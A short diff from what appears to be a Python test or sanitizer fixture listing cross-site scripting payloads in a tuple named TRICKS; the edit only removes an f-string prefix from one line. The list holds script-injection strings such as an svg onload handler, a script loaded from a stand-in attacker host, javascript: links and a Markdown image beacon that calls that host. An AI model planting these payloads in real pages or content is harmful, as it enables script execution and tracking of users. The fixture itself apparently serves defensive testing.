@@ -13,7 +13,7 @@ TRICKS = (
     f'"><svg onload={_RUN}>',
     f"'\"--><script src={_EVIL}/a.js></script>",
     f"<iframe src={_EVIL}/frame></iframe>",
-    f'<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
     f"<a href=javascript:{_RUN}>read on</a>",
     f"[read on](javascript:{_RUN})",
     f"![beacon]({_EVIL}/b.png)",
